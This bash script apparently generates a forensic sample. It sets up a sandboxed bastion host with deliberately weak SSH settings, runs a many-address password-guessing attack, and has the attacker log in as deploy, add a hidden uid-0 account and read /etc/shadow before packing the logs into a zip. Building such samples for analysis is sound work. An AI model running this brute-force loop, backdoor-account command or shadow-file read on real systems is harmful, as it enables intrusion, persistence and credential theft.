#!/usr/bin/env bash
# A bastion host under a password guessing attack from many addresses. One guess is right: the attacker logs in
# as deploy, becomes root with sudo and leaves a second account with user id 0.
set -euo pipefail
# shellcheck source=lib.sh
source "$(dirname "$0")/lib.sh"
sandbox "$@"
name=ssh-bruteforce

host_new bastion-1 10.20.5.10
attackers=()
for last in 3 9 17 24 31 48 52 60 77 81 94 101 118 133 150; do
  attackers+=("10.66.$((last % 4)).$last")
  ip addr add "10.66.$((last % 4)).$last/16" dev lan
done
ip addr add 10.20.20.4/16 dev lan
ip -n bastion-1 route add 10.66.0.0/16 dev eth0

root=$(host_root bastion-1)
ln -sf ../usr/share/zoneinfo/America/New_York "$root/etc/localtime"
echo 'module(load="builtin:omfile" Template="RSYSLOG_TraditionalFileFormat")' >"$root/etc/rsyslog.d/00-classic.conf"
# PAM has no logind to talk to here, and may not raise limits.
sed -i '/pam_systemd/d; /pam_limits/d' "$root"/etc/pam.d/*
rm -f "$root"/etc/ssh/ssh_host_* "$root"/etc/sudoers.d/* "$root"/etc/cron.d/*
ssh-keygen -q -A -f "$root"
printf 'PasswordAuthentication yes\nPermitRootLogin yes\nUseDNS no\n' >"$root/etc/ssh/sshd_config.d/weak.conf"
chroot "$root" useradd --create-home --shell /bin/bash anna
chroot "$root" useradd --create-home --shell /bin/bash --groups sudo deploy
echo 'deploy:Summer2026' | chroot "$root" chpasswd
echo 'root:3a1f-long-and-random' | chroot "$root" chpasswd
ssh-keygen -q -t ed25519 -N '' -C anna -f "$STATE/anna"
install -d -m 700 "$root/home/anna/.ssh"
cp "$STATE/anna.pub" "$root/home/anna/.ssh/authorized_keys"
chroot "$root" chown -R anna: /home/anna
echo '* * * * * root test -d /var/backups' >"$root/etc/cron.d/check-backups"
enable bastion-1 rsyslog.service ssh.service cron.service
host_boot bastion-1

options=(-n -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR)
# A program that ssh asks for the password; it answers with the next guess, for ever.
cat >"$STATE/guess" <<'EOF'
#!/bin/bash
echo "${SSH_GUESS:-guess-$RANDOM}"
EOF
chmod +x "$STATE/guess"
export SSH_ASKPASS=$STATE/guess SSH_ASKPASS_REQUIRE=force
guess() { # ADDRESS USER PROMPTS
  timeout 30 ssh "${options[@]}" -b "$1" -o PubkeyAuthentication=no -o NumberOfPasswordPrompts="$3" \
    "$2@10.20.5.10" true >/dev/null 2>&1 || true
}
anna() { # COMMAND...: an administrator's ordinary login
  ssh "${options[@]}" -i "$STATE/anna" -b 10.20.20.4 anna@10.20.5.10 "$@" >/dev/null
}

anna uptime
sleep 5
anna "df -h"
users=(root admin oracle test ubuntu git postgres root guest deploy pi root ftp user jenkins)
end=$((SECONDS + 50))
guessing=()
for index in "${!attackers[@]}"; do
  (
    turn=$index
    while [[ $SECONDS -lt $end ]]; do
      guess "${attackers[$index]}" "${users[$((turn % ${#users[@]}))]}" $((turn % 3 == 0 ? 7 : 2))
      turn=$((turn + 4))
    done
  ) &
  guessing+=($!)
done
# Scanners that do not speak SSH, and one that speaks it as 2005 did.
curl --silent --interface 10.66.1.9 --max-time 3 http://10.20.5.10:22/ >/dev/null || true
sleep 10
ssh "${options[@]}" -b 10.66.1.81 -o KexAlgorithms=diffie-hellman-group1-sha1 root@10.20.5.10 true 2>/dev/null || true
wait "${guessing[@]}"
sleep 3
SSH_GUESS=Summer2026 ssh "${options[@]}" -b 10.66.1.77 -o PubkeyAuthentication=no deploy@10.20.5.10 \
  'id; echo Summer2026 | sudo -S -p "" useradd -o -u 0 -g 0 -M -s /bin/bash svc-update; echo Summer2026 | sudo -S -p "" cat /etc/shadow' >/dev/null
sleep 2
anna "last"

out=$STATE/out/$name
host_collect bastion-1 "$out" var/log/auth.log var/log/syslog etc/ssh/sshd_config.d/weak.conf
on bastion-1 last -F >"$out/commands/last.txt"
hide_kernel "$out/commands/last.txt"
on bastion-1 lastb -F >"$out/commands/lastb.txt"
pack_zip "$SAMPLES_DIR/bundles/$name.zip" "$out"
ls -l "$SAMPLES_DIR/bundles/$name.zip"
